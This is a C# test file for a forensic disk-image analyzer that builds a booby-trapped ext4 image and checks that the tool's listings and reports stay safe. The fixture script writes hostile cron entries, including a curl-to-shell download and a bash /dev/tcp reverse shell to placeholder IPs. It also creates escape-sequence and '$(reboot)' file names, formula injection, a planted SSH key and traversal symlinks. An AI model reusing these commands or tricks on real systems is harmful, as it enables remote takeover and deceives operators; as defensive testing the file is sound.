using System.Diagnostics;
using System.Text;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>An image full of names and lines made to deceive readers and machines, through every output.</summary>
public sealed class HostileNamesTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("deadbox-names-").FullName;
    private readonly string _image;

    public HostileNamesTests()
    {
        _image = Path.Combine(_folder, "names.raw");
        const string Script = """
            set -e
            cd "$1"; mkdir -p tree/etc/cron.d tree/tmp tree/root/.ssh
            printf 'root:x:0:0:r\033[2Jt:/root:/bin/sh\n' > tree/etc/passwd
            printf 'NAME=x\nPRETTY_NAME="evil\033]0;pwn\007 [red]os[/]"\nID=debian\n' > tree/etc/os-release
            cd tree/tmp
            for n in "$(printf 'esc\033[2J\033]0;pwn\007')" "$(printf 'line\n0 findings')" "$(printf 'bad\377\376')" "$(printf 'rtl\342\200\256gnp.exe')" '[red]x[bold]' '::error::x' '=cmd|x' 'a,"b' 'back\slash' '$(reboot)' "$(printf 'c1\302\233x')"; do
              printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000stratum+tcp://pool.example.invalid:3333 "method":"login" randomx cryptonight job_id' > "$n"; chmod 755 "$n"
            done
            ln -s loop-b loop-a; ln -s loop-a loop-b; ln -s '=HYPERLINK("x")' formula; ln -s "$(printf '../%.0s' $(seq 100))etc/passwd" up
            cd ../etc/cron.d
            printf '* * * * * root \033[31mcurl http://203.0.113.9/x|sh\033[0m ; [bold]x[/] <script>alert(1)</script>\n' > "$(printf 'job\033[2Jx')"
            printf '* * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n' > '::error::cron'
            cd ../../root/.ssh; printf 'ssh-rsa AAAAB3NzaC1yc2E= x\033]8;;http://e\007mdrfckr\n' > authorized_keys
            cd "$1"; mke2fs -q -F -t ext4 -d tree names.raw 16M; rm -rf tree
            """;
        using Process process = Process.Start(new ProcessStartInfo("bash", ["-c", Script, "bash", _folder]) { Environment = { ["PATH"] = Environment.GetEnvironmentVariable("PATH") + ":/usr/sbin:/sbin" } })!;
        process.WaitForExit();
        Assert.Equal(0, process.ExitCode);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("scan -v")]
    [InlineData("info")]
    [InlineData("files")]
    [InlineData("files --format jsonl")]
    [InlineData("files --format bodyfile")]
    [InlineData("scan --format json")]
    public void No_output_holds_a_control_byte_or_a_reordering_character(string command)
    {
        string[] words = command.Split(' ');
        (int code, byte[] output, string error) = Deadbox.Run([words[0], _image, .. words[1..]]);
        Assert.Equal(0, code);
        Assert.DoesNotContain(output, value => (value < 0x20 && value != '\n') || value == 0x7F);
        string text = Encoding.UTF8.GetString(output);
        Assert.DoesNotContain(text, value => value is >= '\u0080' and <= '\u009F' or '\u202E' or '\u200B' or '\uFFFD');
        Assert.DoesNotContain(error, value => value is < ' ' and not '\n' || value is >= '\u007F' and <= '\u009F' or '\u202E');
        Assert.DoesNotContain(text.Split('\n'), line => line.StartsWith("::", StringComparison.Ordinal) || line.StartsWith("##", StringComparison.Ordinal));
    }

    [Fact]
    public void Every_name_is_one_record_and_comes_back_in_json()
    {
        string[] csv = Deadbox.Text("files", _image, "--path", "/tmp/*").Split('\n', StringSplitOptions.RemoveEmptyEntries);
        string[] jsonl = Deadbox.Text("files", _image, "--path", "/tmp/*", "--format", "jsonl").Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(15, jsonl.Length);
        Assert.Equal(16, csv.Length);
        string[] names = [.. jsonl.Select(line => (string)JsonNode.Parse(line)!["path"]!)];
        Assert.Contains(@"/tmp/esc\x1b[2J\x1b]0;pwn\x07", names);
        Assert.Contains(@"/tmp/line\x0a0 findings", names);
        Assert.Contains(@"/tmp/bad\xff\xfe", names);
        Assert.Contains(@"/tmp/rtl\xe2\x80\xaegnp.exe", names);
        Assert.Contains(@"/tmp/back\x5cslash", names);
        Assert.Contains("/tmp/[red]x[bold]", names);
        Assert.DoesNotContain(csv, line => line.Contains(",=HYPERLINK", StringComparison.Ordinal) || line.Contains("\"=HYPERLINK", StringComparison.Ordinal));
    }

    [Fact]
    public void The_findings_are_made_all_the_same_and_name_no_dangerous_command()
    {
        JsonObject report = Deadbox.Scan(_image).Report;
        Assert.Equal("compromised", (string?)report["risk"]!["verdict"]);
        string[] paths = [.. report["findings"]!.AsArray().Select(finding => (string)finding!["path"]!)];
        Assert.Contains(@"/etc/cron.d/job\x1b[2Jx", paths);
        Assert.Contains("/etc/cron.d/::error::cron", paths);
        Assert.Contains("/tmp/$(reboot)", paths);
        foreach (string command in report["findings"]!.AsArray().SelectMany(finding => finding!["remediation"]!.AsArray()).Select(node => (string)node!))
        {
            Assert.DoesNotMatch(@"(?<!['\\])\$\(reboot\)(?!')", command);
        }
    }

    [Theory]
    [InlineData(@"/tmp/esc\x1b[2J\x1b]0;pwn\x07")]
    [InlineData(@"/tmp/bad\xff\xfe")]
    [InlineData(@"/tmp/back\x5cslash")]
    public void Cat_opens_a_name_in_the_form_the_listing_shows(string path) =>
        Assert.StartsWith("\x7f" + "ELF", Encoding.Latin1.GetString(Deadbox.Run("cat", _image, path).Output), StringComparison.Ordinal);

    [Fact]
    public void Links_without_end_lead_nowhere() => Assert.Equal(2, Deadbox.Run("cat", _image, "/tmp/loop-a").Code);

    [Fact]
    public void Links_never_leave_the_image() =>
        Assert.StartsWith("root:x:0:0:r", Encoding.Latin1.GetString(Deadbox.Run("cat", _image, "/tmp/up").Output), StringComparison.Ordinal);
}
